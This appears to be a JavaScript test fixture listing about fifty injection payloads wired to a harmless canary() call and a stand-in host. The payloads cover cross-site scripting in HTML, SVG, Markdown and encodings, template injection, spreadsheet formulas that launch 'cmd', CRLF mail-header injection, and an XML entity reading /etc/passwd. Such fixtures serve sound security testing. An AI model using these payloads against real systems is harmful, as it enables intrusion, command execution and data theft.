// Fifty ways to make a text run, or be obeyed, where it should only be read. What one of them does where it works is seen by
// canary.mjs: it calls canary(), opens a dialog, asks canary.invalid, or makes an element that carries data-canary.

const script = 'canary()';
const host = 'canary.invalid';

export const payloads = [
  // elements and attributes
  `<script data-canary>${script}</script>`,
  `</title></textarea></style></script><script data-canary>${script}</script>`,
  `<img data-canary src=x onerror=${script}>`,
  `"><img data-canary src=x onerror=${script}>`,
  `' autofocus onfocus=${script} data-canary='`,
  `" autofocus onfocus="${script}" data-canary="`,
  '` onmouseover=canary() data-canary=`',
  `<a data-canary href="javascript:${script}">press</a>`,
  `<iframe data-canary srcdoc="<script>parent.canary()</script>"></iframe>`,
  `<iframe data-canary src="//${host}/frame"></iframe>`,
  `<details data-canary open ontoggle=${script}>`,
  `<video data-canary><source onerror=${script}></video>`,
  `<form data-canary action="https://${host}/"><button autofocus>`,
  `<base data-canary href="https://${host}/">`,
  `<meta data-canary http-equiv=refresh content="0;url=https://${host}/">`,
  `<link data-canary rel=stylesheet href="https://${host}/a.css">`,
  `<object data-canary data="data:text/html,<script>${script}</script>"></object>`,
  `<template data-canary shadowrootmode=open><script>${script}</script></template>`,
  // SVG, MathML, and parsers that disagree
  `<svg data-canary onload=${script}>`,
  `<svg><animate data-canary onbegin=${script} attributeName=x dur=1s>`,
  `<math data-canary><mi xlink:href="javascript:${script}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img data-canary title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
  `<noscript><p title="</noscript><img data-canary src=x onerror=${script}>">`,
  `<!--><img data-canary src=x onerror=${script}>-->`,
  `<![CDATA[><img data-canary src=x onerror=${script}>]]>`,
  `<scr<script>ipt data-canary>${script}</scr</script>ipt>`,
  // addresses
  `javascript:${script}`,
  `java\tscript:${script}//https://a.example/`,
  `data:text/html,<script data-canary>${script}</script>`,
  `//${host}/\\..\\..`,
  // style
  `</style><style data-canary>@import url(https://${host}/b.css);</style>`,
  `x; background: url(https://${host}/c.png); } * { color: expression(${script})`,
  // languages of templates
  "{{constructor.constructor('canary()')()}}${canary()}<%= canary() %>#{canary()}{1}{0}%s%n",
  // Markdown
  `[press](javascript:${script}) ![seen](https://${host}/d.png) <https://${host}/e>`,
  `[a]: javascript:${script}\n[a]\n\n\`\`\`"><img data-canary src=x onerror=${script}>\n`,
  `[x](<https://a.example/" onclick="${script}" data-canary="> "title' onclick='${script}")`,
  // JSON-LD and scripts of data
  `"}</script><script data-canary>${script}</script>{"`,
  `\u2028${script}\u2029//\\u003cscript data-canary\\u003e`,
  // other alphabets for the same signs
  `+ADw-script data-canary+AD4-${script}+ADw-/script+AD4-`,
  `\u00bcscript data-canary\u00be${script}\u00bc/script\u00be \uff1cimg data-canary src=x onerror=${script}\uff1e %c0%bcscript%c0%be`,
  `&lt;img data-canary src=x onerror=${script}&gt; &#60;script data-canary&#62;${script}&#60;/script&#62;`,
  // directions, controls, marks
  `\u202e\u2066<img data-canary src=x onerror=${script}>\u2069\u200b\u0007\u001b[31m`,
  `<\u0000script data-canary>${script}</\u0000script>\u0085\ufeff`,
  // spreadsheets
  `=HYPERLINK("https://${host}/","press")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `\t=1+1","=2+2\r\n=3+3`,
  // heads of mail and of HTTP
  `Claire\r\nBcc: somebody@${host}\r\nX-Canary: yes\r\n\r\n<script data-canary>${script}</script>`,
  // feeds
  `]]></summary><link href="https://${host}/f"/><script xmlns="http://www.w3.org/1999/xhtml" data-canary="">${script}</script><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;`,
  // many at once
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */onerror=${script} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg data-canary/<sVg/oNloAd=${script}//>\\x3e`,
];
